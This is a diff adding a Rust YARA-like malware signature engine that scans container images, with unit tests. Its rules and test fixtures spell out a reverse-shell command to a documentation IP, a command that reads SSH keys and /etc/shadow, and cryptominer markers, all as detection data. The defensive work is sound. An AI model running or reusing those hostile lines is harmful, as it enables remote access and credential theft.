@@ -1,0 +1,277 @@
+//! YARA-like malware signature engine (mitigation **M16**).
+//!
+//! "GENIO utilizes Deepfence YaraHunter to scan container images at rest
+//! for indicators of compromise. This tool leverages YARA rules to detect
+//! embedded malicious binaries, scripts, or configuration files." The
+//! engine here supports the core YARA constructs the mitigation exercises:
+//! literal strings, hex patterns with `??` wildcards, and per-rule match
+//! thresholds.
+
+use std::collections::BTreeMap;
+
+use crate::image::ContainerImage;
+
+/// One detection pattern.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Pattern {
+    /// Literal byte string (YARA `$s = "..."`).
+    Literal(Vec<u8>),
+    /// Hex bytes with wildcards (`$h = { DE AD ?? EF }`); `None` matches
+    /// any byte.
+    Hex(Vec<Option<u8>>),
+}
+
+impl Pattern {
+    /// True if the pattern occurs anywhere in `data`.
+    pub fn matches(&self, data: &[u8]) -> bool {
+        match self {
+            Pattern::Literal(needle) => {
+                !needle.is_empty() && data.windows(needle.len()).any(|w| w == needle.as_slice())
+            }
+            Pattern::Hex(bytes) => {
+                !bytes.is_empty()
+                    && data.len() >= bytes.len()
+                    && data.windows(bytes.len()).any(|w| {
+                        w.iter()
+                            .zip(bytes.iter())
+                            .all(|(b, p)| p.map(|x| x == *b).unwrap_or(true))
+                    })
+            }
+        }
+    }
+}
+
+/// Parses a YARA-style hex string like `"DE AD ?? EF"`.
+///
+/// # Panics
+///
+/// Panics on malformed tokens (rules are fixture data in the simulation).
+pub fn hex_pattern(s: &str) -> Pattern {
+    let bytes = s
+        .split_whitespace()
+        .map(|tok| {
+            if tok == "??" {
+                None
+            } else {
+                Some(u8::from_str_radix(tok, 16).expect("valid hex byte"))
+            }
+        })
+        .collect();
+    Pattern::Hex(bytes)
+}
+
+/// One detection rule.
+#[derive(Debug, Clone)]
+pub struct Rule {
+    /// Rule name.
+    pub name: String,
+    patterns: Vec<Pattern>,
+    /// Minimum number of distinct patterns that must match.
+    min_matches: usize,
+}
+
+impl Rule {
+    /// Creates a rule requiring all of its patterns to match by default.
+    pub fn new(name: &str) -> Self {
+        Rule {
+            name: name.to_string(),
+            patterns: Vec::new(),
+            min_matches: usize::MAX,
+        }
+    }
+
+    /// Adds a literal string pattern.
+    pub fn string(mut self, s: &str) -> Self {
+        self.patterns.push(Pattern::Literal(s.as_bytes().to_vec()));
+        self
+    }
+
+    /// Adds a hex pattern (e.g. `"7f 45 4c 46 ?? 01"`).
+    pub fn hex(mut self, s: &str) -> Self {
+        self.patterns.push(hex_pattern(s));
+        self
+    }
+
+    /// Requires at least `n` patterns to match (YARA `n of them`).
+    pub fn min_matches(mut self, n: usize) -> Self {
+        self.min_matches = n;
+        self
+    }
+
+    /// Evaluates the rule against a byte blob.
+    pub fn matches(&self, data: &[u8]) -> bool {
+        if self.patterns.is_empty() {
+            return false;
+        }
+        let required = self.min_matches.min(self.patterns.len());
+        let hits = self.patterns.iter().filter(|p| p.matches(data)).count();
+        hits >= required
+    }
+}
+
+/// A compiled set of rules.
+#[derive(Debug, Clone)]
+pub struct RuleSet {
+    rules: Vec<Rule>,
+}
+
+impl RuleSet {
+    /// Creates a rule set.
+    pub fn new(rules: Vec<Rule>) -> Self {
+        RuleSet { rules }
+    }
+
+    /// Number of rules.
+    pub fn len(&self) -> usize {
+        self.rules.len()
+    }
+
+    /// True when no rules are loaded.
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// Names of rules matching a byte blob.
+    pub fn scan_bytes(&self, data: &[u8]) -> Vec<&str> {
+        self.rules
+            .iter()
+            .filter(|r| r.matches(data))
+            .map(|r| r.name.as_str())
+            .collect()
+    }
+
+    /// Scans every file of a flattened image; returns path → matched rules
+    /// (paths with no matches omitted).
+    pub fn scan_image(&self, image: &ContainerImage) -> BTreeMap<String, Vec<String>> {
+        let mut out = BTreeMap::new();
+        for (path, content) in image.flattened_fs() {
+            let hits: Vec<String> = self
+                .scan_bytes(&content)
+                .into_iter()
+                .map(str::to_string)
+                .collect();
+            if !hits.is_empty() {
+                out.insert(path, hits);
+            }
+        }
+        out
+    }
+}
+
+/// The default GENIO registry-scanning rules: a cryptominer, a reverse
+/// shell, a packed-ELF heuristic, and a credential stealer.
+pub fn default_malware_rules() -> RuleSet {
+    RuleSet::new(vec![
+        Rule::new("xmrig_cryptominer")
+            .string("stratum+tcp://")
+            .string("donate-level")
+            .min_matches(1),
+        Rule::new("reverse_shell")
+            .string("/bin/sh -i")
+            .string("bash -i >& /dev/tcp/")
+            .min_matches(1),
+        Rule::new("packed_elf")
+            .hex("7f 45 4c 46 ?? ?? ?? 00")
+            .string("UPX!")
+            .min_matches(2),
+        Rule::new("credential_stealer")
+            .string(".aws/credentials")
+            .string(".ssh/id_rsa")
+            .string("/etc/shadow")
+            .min_matches(2),
+    ])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::image::{ContainerImage, Interface, Layer};
+
+    #[test]
+    fn literal_pattern_matching() {
+        let p = Pattern::Literal(b"evil".to_vec());
+        assert!(p.matches(b"some evil payload"));
+        assert!(!p.matches(b"benign"));
+        assert!(!Pattern::Literal(vec![]).matches(b"anything"));
+    }
+
+    #[test]
+    fn hex_pattern_with_wildcards() {
+        let p = hex_pattern("de ad ?? ef");
+        assert!(p.matches(&[0x00, 0xde, 0xad, 0x42, 0xef, 0x01]));
+        assert!(p.matches(&[0xde, 0xad, 0xff, 0xef]));
+        assert!(!p.matches(&[0xde, 0xad, 0x42, 0xee]));
+        assert!(!p.matches(&[0xde, 0xad]));
+    }
+
+    #[test]
+    fn min_matches_threshold() {
+        let rule = Rule::new("two-of-three")
+            .string("alpha")
+            .string("beta")
+            .string("gamma")
+            .min_matches(2);
+        assert!(!rule.matches(b"alpha only"));
+        assert!(rule.matches(b"alpha and beta"));
+        assert!(rule.matches(b"alpha beta gamma"));
+    }
+
+    #[test]
+    fn default_all_patterns_required() {
+        let rule = Rule::new("strict").string("a-marker").string("b-marker");
+        assert!(!rule.matches(b"a-marker alone"));
+        assert!(rule.matches(b"a-marker plus b-marker"));
+    }
+
+    #[test]
+    fn miner_rule_fires() {
+        let rules = default_malware_rules();
+        let hits = rules.scan_bytes(b"pool=stratum+tcp://xmr.pool.example:3333");
+        assert_eq!(hits, vec!["xmrig_cryptominer"]);
+    }
+
+    #[test]
+    fn reverse_shell_rule_fires() {
+        let rules = default_malware_rules();
+        let hits = rules.scan_bytes(b"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1");
+        assert_eq!(hits, vec!["reverse_shell"]);
+    }
+
+    #[test]
+    fn packed_elf_needs_both_markers() {
+        let rules = default_malware_rules();
+        let elf_only = [0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00];
+        assert!(rules.scan_bytes(&elf_only).is_empty());
+        let mut packed = elf_only.to_vec();
+        packed.extend_from_slice(b"UPX!");
+        assert_eq!(rules.scan_bytes(&packed), vec!["packed_elf"]);
+    }
+
+    #[test]
+    fn image_scan_reports_per_path() {
+        let image = ContainerImage::new("registry.genio/suspect:latest", Interface::Rest)
+            .layer(
+                Layer::new()
+                    .file("/app/server", b"legit binary")
+                    .file("/app/.hidden/miner.cfg", b"stratum+tcp://pool:3333"),
+            )
+            .layer(Layer::new().file("/app/steal.sh", b"cat ~/.ssh/id_rsa; cat /etc/shadow"));
+        let report = default_malware_rules().scan_image(&image);
+        assert_eq!(report.len(), 2);
+        assert_eq!(report["/app/.hidden/miner.cfg"], vec!["xmrig_cryptominer"]);
+        assert_eq!(report["/app/steal.sh"], vec!["credential_stealer"]);
+    }
+
+    #[test]
+    fn clean_image_scans_clean() {
+        let image = ContainerImage::new("registry.genio/clean:1.0", Interface::Rest)
+            .layer(Layer::new().file("/app/server", b"just a web server"));
+        assert!(default_malware_rules().scan_image(&image).is_empty());
+    }
+
+    #[test]
+    fn empty_rule_never_matches() {
+        let rule = Rule::new("empty");
+        assert!(!rule.matches(b"anything"));
+    }
+}
